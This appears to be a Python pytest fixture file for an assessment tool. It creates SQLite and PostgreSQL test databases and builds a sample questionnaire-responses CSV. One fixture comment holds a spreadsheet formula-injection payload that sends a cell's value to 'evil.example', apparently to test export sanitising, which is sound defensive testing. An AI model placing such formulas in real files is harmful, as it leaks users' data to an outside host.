"""Database fixtures: one ``db`` fixture parametrised over SQLite and PostgreSQL.

PostgreSQL runs at 127.0.0.1:5432 (user postgres). A uniquely named database is created for the test
session and dropped at the end; each test starts from empty tables (plus the shipped reference data).
PostgreSQL tests are skipped only when the server is unreachable *and* the ``CI`` variable is not set: in
CI they must run, so an unreachable server fails them.
"""

from __future__ import annotations

import os
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from sqlalchemy import Engine, text
from sqlalchemy.orm import Session, sessionmaker

PG_HOST = os.environ.get("ASSESSMENT_TEST_PG_HOST", "127.0.0.1")
PG_PORT = int(os.environ.get("ASSESSMENT_TEST_PG_PORT", "5432"))
PG_USER = os.environ.get("ASSESSMENT_TEST_PG_USER", "postgres")
PG_PASSWORD = os.environ.get("ASSESSMENT_TEST_PG_PASSWORD", "")


def _admin_connect():
    import psycopg

    return psycopg.connect(host=PG_HOST, port=PG_PORT, user=PG_USER, password=PG_PASSWORD or None,
                           dbname="postgres", autocommit=True, connect_timeout=5)


def _pg_url(name: str) -> str:
    auth = PG_USER + (f":{PG_PASSWORD}" if PG_PASSWORD else "")
    return f"postgresql+psycopg://{auth}@{PG_HOST}:{PG_PORT}/{name}"


class _PostgresServer:
    """Creates uniquely named databases on the test server and drops them all at the end."""

    def __init__(self) -> None:
        self.names: list[str] = []
        self.error: str | None = None
        try:
            with _admin_connect():
                pass
        except Exception as exc:  # any connection failure: report it as the reason
            self.error = f"PostgreSQL at {PG_HOST}:{PG_PORT} is unreachable ({type(exc).__name__}: {exc})"

    def require(self) -> None:
        if self.error is None:
            return
        if os.environ.get("CI"):
            pytest.fail(self.error + " and CI is set: PostgreSQL tests must run in CI")
        pytest.skip(self.error)

    def create(self) -> str:
        self.require()
        name = f"assessment_test_{uuid.uuid4().hex[:12]}"
        with _admin_connect() as conn:
            conn.execute(f'CREATE DATABASE "{name}"')
        self.names.append(name)
        return _pg_url(name)

    def drop_all(self) -> None:
        if not self.names:
            return
        with _admin_connect() as conn:
            for name in self.names:
                conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        self.names.clear()


@pytest.fixture(scope="session")
def postgres_server() -> Iterator[_PostgresServer]:
    server = _PostgresServer()
    yield server
    server.drop_all()


@pytest.fixture(scope="session")
def postgres_engine(postgres_server) -> Iterator[Engine]:
    """One upgraded PostgreSQL database for the whole test session (tables emptied per test by ``db``)."""
    from assessment.storage.db import make_engine, upgrade

    engine = make_engine(postgres_server.create())
    upgrade(engine, load_reference=False)
    yield engine
    engine.dispose()


def _empty_postgres(engine: Engine) -> None:
    from assessment.storage.models import Base

    names = ", ".join(f'"{t.name}"' for t in Base.metadata.sorted_tables)
    with engine.begin() as conn:
        conn.execute(text(f"TRUNCATE {names} RESTART IDENTITY CASCADE"))


@dataclass
class Database:
    """What a storage test needs: the engine, a session factory and which engine it is."""

    engine: Engine
    sessions: sessionmaker[Session]
    kind: str

    def session(self) -> Session:
        return self.sessions()


def _sqlite_engine(tmp_path, name: str = "assessment.db") -> Engine:
    from assessment.storage.db import make_engine

    return make_engine(f"sqlite:///{(tmp_path / name).as_posix()}")


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def db(request, tmp_path) -> Iterator[Database]:
    """An upgraded, empty database (reference forces loaded) on each engine."""
    from assessment.storage.db import make_session_factory, upgrade
    from assessment.storage.reference import load_reference_data

    if request.param == "sqlite":
        engine = _sqlite_engine(tmp_path)
        upgrade(engine)
        yield Database(engine, make_session_factory(engine), "sqlite")
        engine.dispose()
        return
    engine = request.getfixturevalue("postgres_engine")
    _empty_postgres(engine)
    factory = make_session_factory(engine)
    with factory.begin() as session:
        load_reference_data(session)
    yield Database(engine, factory, "postgresql")


@pytest.fixture
def sqlite_db(tmp_path) -> Iterator[Database]:
    """An upgraded SQLite database only (for tests that start from the embedded default)."""
    from assessment.storage.db import make_session_factory, upgrade

    engine = _sqlite_engine(tmp_path)
    upgrade(engine)
    yield Database(engine, make_session_factory(engine), "sqlite")
    engine.dispose()


@pytest.fixture
def empty_postgres(postgres_server) -> Iterator[Engine]:
    """A brand-new PostgreSQL database with no tables at all (for restore tests)."""
    from assessment.storage.db import make_engine

    engine = make_engine(postgres_server.create())
    yield engine
    engine.dispose()


@pytest.fixture
def empty_sqlite(tmp_path) -> Iterator[Engine]:
    engine = _sqlite_engine(tmp_path, "restored.db")
    yield engine
    engine.dispose()


def dump_tables(engine: Engine) -> dict[str, list[tuple]]:
    """Every row of every table, ordered by primary key (to compare databases exactly)."""
    from assessment.storage.models import Base

    with engine.connect() as connection:
        return {table.name: [tuple(row) for row in connection.execute(
                    table.select().order_by(*table.primary_key.columns))]
                for table in Base.metadata.sorted_tables}


@pytest.fixture
def table_dump():
    """``table_dump(engine)``: every row of every table (see :func:`dump_tables`)."""
    return dump_tables


# -- a valid responses file on the mini questionnaire ----------------------------------------------------------

ITEMS = ["governance.joint_board", "governance.escalation", "triage.clinician", "triage.referral_routes",
         "safety.hbpos", "safety.handover", "safety.conveyance"]
# Nine respondents, three per agency, so no agency figure is suppressed (min_group_size 3).
PEOPLE = [("p1", "police"), ("p2", "police"), ("p3", "police"),
          ("m1", "mental_health_trust"), ("m2", "mental_health_trust"), ("m3", "mental_health_trust"),
          ("a1", "ambulance"), ("a2", "ambulance"), ("a3", "ambulance")]
ADMIN = "board.secretary@example.org"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence")'
REPEAT = "-3 repeat callers since the joint rota began"


def _responses_csv(round_value: str = "kent-2026-h1") -> str:
    """A complete, valid responses file; values cycle 1..5 with one NA and one DK."""
    lines = ["partnership,round,respondent,agency,item,value,comment"]
    for n, (who, agency) in enumerate(PEOPLE):
        for i, item in enumerate(ITEMS):
            value = str((n + i) % 5 + 1)
            comment = ""
            if (who, item) == ("p1", "safety.hbpos"):
                value = "NA"
            if (who, item) == ("m2", "triage.clinician"):
                value = "DK"
            if (who, item) == ("p1", "governance.joint_board"):
                comment = '"' + HYPERLINK.replace('"', '""') + '"'
            if (who, item) == ("a1", "triage.referral_routes"):
                comment = REPEAT
            lines.append(f"kent,{round_value},{who},{agency},{item},{value},{comment}")
    return "\n".join(lines) + "\n"


_responses_csv.items = ITEMS
_responses_csv.hyperlink = HYPERLINK
_responses_csv.repeat = REPEAT


@pytest.fixture
def responses_csv():
    """``responses_csv(round_value="kent-2026-h1")`` -> the text of a valid responses file for Kent."""
    return _responses_csv


@pytest.fixture
def snapshot(db):
    """``snapshot()`` -> the whole database as data, to show that a refused change left it as it was."""
    return lambda: dump_tables(db.engine)
